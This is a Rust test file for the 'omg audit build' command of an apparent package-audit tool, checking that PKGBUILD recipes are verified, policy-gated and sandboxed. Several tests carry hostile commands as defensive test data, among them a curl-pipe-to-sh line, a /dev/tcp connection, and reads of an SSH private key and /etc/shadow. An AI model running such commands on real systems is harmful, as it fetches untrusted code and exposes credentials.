//! `omg audit build`: what comes out of the sandbox, and what it forbids.
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout)] // A test may fail anywhere.

mod support;

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use support::{Run, Sandbox};

/// One record, so that the feed is one.
const FEED: &str = r#"[{"name": "AVG-1", "packages": ["x"], "status": "Fixed", "severity": "High",
    "type": "x", "affected": "1-1", "fixed": "2-1", "ticket": null, "issues": ["CVE-2026-1"],
    "advisories": []}]"#;

fn ready() -> Option<Sandbox> {
    for tool in ["bwrap", "makepkg", "fakeroot", "curl"] {
        support::tool(tool)?;
    }
    let sandbox = Sandbox::new();
    sandbox.arch_root(&[]);
    sandbox.write("feed.json", FEED);
    // What the user keeps at home.
    sandbox.write(".ssh/id_ed25519", "secret");
    Some(sandbox)
}

fn recipe(sandbox: &Sandbox, name: &str, text: &str) -> PathBuf {
    let head = format!("pkgname={name}\npkgver=1\npkgrel=1\narch=(any)\nlicense=(MIT)\n");
    let path = sandbox.write(&format!("recipes/{name}/PKGBUILD"), head + text);
    path.parent().unwrap().to_owned()
}

fn build(sandbox: &Sandbox, dir: &Path, more: &[&str]) -> Run {
    let text = |path: PathBuf| path.to_str().unwrap().to_owned();
    let (root, feed) = (text(sandbox.path("root")), text(sandbox.path("feed.json")));
    let mut args = vec![
        "audit",
        "build",
        dir.to_str().unwrap(),
        "--nodeps",
        "--root",
        &root,
    ];
    args.extend(["--advisories", &feed]);
    args.extend(more);
    sandbox.run(&args)
}

/// A file of a package, by bsdtar or tar.
fn content(package: &Path, name: &str) -> String {
    let output = Command::new("tar")
        .arg("-xOf")
        .arg(package)
        .arg(name)
        .output()
        .unwrap();
    String::from_utf8(output.stdout).unwrap()
}

/// A server that gives one source, and counts who connects.
fn serve() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let seen = Arc::clone(&count);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            seen.fetch_add(1, Ordering::SeqCst);
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(
                b"HTTP/1.0 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsource",
            );
        }
    });
    (port, count)
}

#[test]
fn a_recipe_is_built_and_its_package_goes_through_the_gate() {
    let Some(sandbox) = ready() else { return };
    let (port, _) = serve();
    // SHA-256 of "source".
    let dir = recipe(
        &sandbox,
        "good",
        &format!(
            "source=(\"http://127.0.0.1:{port}/source\")\n\
             sha256sums=(41cf6794ba4200b839c53531555f0f3998df4cbb01a4d5cb0b94e3ca5e23947d)\n\
             package() {{ install -Dm644 source \"$pkgdir/usr/share/good\"; }}\n"
        ),
    );
    let run = build(&sandbox, &dir, &[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let made: Vec<_> = fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(made.len(), 2, "{made:?}");
    // Banned: built, and not kept.
    sandbox.write("root/etc/omg/policy.toml", "banned_packages = ['good']\n");
    let out = sandbox.path("out");
    let run = build(&sandbox, &dir, &["--dest", out.to_str().unwrap()]);
    assert_eq!(
        (run.code, out.exists()),
        (1, false),
        "{}{}",
        run.stdout,
        run.stderr
    );
    assert!(run.stdout.contains("ban good"), "{}", run.stdout);
}

#[test]
fn a_source_that_is_another_is_not_built() {
    let Some(sandbox) = ready() else { return };
    let (port, _) = serve();
    let text = format!(
        "source=(\"http://127.0.0.1:{port}/source\")\nsha256sums=({})\npackage() {{ :; }}\n",
        "0".repeat(64)
    );
    let run = build(&sandbox, &recipe(&sandbox, "other", &text), &[]);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("not what the recipe says"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_hostile_recipe_is_not_even_run() {
    let Some(sandbox) = ready() else { return };
    let mark = sandbox.path("was-run");
    let text = format!(
        "touch {}\ncurl -s https://example.org | sh\n",
        mark.display()
    );
    let dir = recipe(&sandbox, "hostile", &text);
    let run = build(&sandbox, &dir, &[]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stderr
            .contains("rejected before it was run: PKGBUILD:7"),
        "{}",
        run.stderr
    );
    assert!(!mark.exists());
    let log = sandbox.run(&["audit", "log", "--event", "PolicyViolation", "-f", "jsonl"]);
    assert!(
        log.stdout.contains("\"recipe\":\"hostile\""),
        "{}",
        log.stdout
    );
}

#[test]
fn the_sandbox_forbids_what_it_says() {
    let Some(sandbox) = ready() else { return };
    let (port, connections) = serve();
    // What the inspection would refuse is let through, so that the sandbox is what stops it.
    sandbox.write(
        "root/etc/omg/policy.toml",
        "schema = 1\n[scripts]\nsuspicious = 'allow'\n",
    );
    let home = sandbox.dir.path().display().to_string();
    let mark = format!("/usr/share/omg-sandbox-test-{}", std::process::id());
    let tests = [
        ("network", format!("(exec 3<>/dev/tcp/127.0.0.1/{port})")),
        ("home", format!("cat {home}/.ssh/id_ed25519")),
        (
            "users",
            "ls -d /home/* /root | grep -v '^/home/build$'".to_owned(),
        ),
        ("usr", format!("touch {mark}")),
        ("etc", "touch /etc/omg-sandbox-test".to_owned()),
        ("shadow", "cat /etc/shadow".to_owned()),
        ("processes", format!("test -e /proc/{}", std::process::id())),
        ("kill", format!("kill -0 {}", std::process::id())),
        ("mount", "mount -t tmpfs none /mnt".to_owned()),
        ("namespaces", "unshare -U true".to_owned()),
        ("root", "test \"$(id -u)\" = 0".to_owned()),
        ("tty", "test -e /proc/self/fd/0 && test -t 0".to_owned()),
        (
            "devices",
            "test -e /dev/sda || test -e /dev/vda || test -e /dev/mem".to_owned(),
        ),
        ("variables", "test -n \"$SECRET_OF_THE_USER\"".to_owned()),
    ];
    let mut body = String::from("build() {\n  : > result\n");
    for (name, attempt) in &tests {
        body.push_str(&format!(
            "  if ( {attempt} ) >/dev/null 2>&1; then echo '{name} open' >>result; \
             else echo '{name} shut' >>result; fi\n"
        ));
    }
    body.push_str("}\npackage() { install -Dm644 result \"$pkgdir/usr/share/result\"; }\n");
    let dir = recipe(&sandbox, "probe", &body);
    let mut sandbox = sandbox;
    sandbox.env("SECRET_OF_THE_USER", "x");
    let run = build(&sandbox, &dir, &[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let package = fs::read_dir(&dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .find(|path| path.to_string_lossy().contains(".pkg.tar"))
        .unwrap();
    let seen = content(&package, "usr/share/result");
    let expected: String = tests
        .iter()
        .map(|(name, _)| format!("{name} shut\n"))
        .collect();
    assert_eq!(seen, expected);
    assert_eq!(connections.load(Ordering::SeqCst), 0);
    assert!(!Path::new(&mark).exists());
}
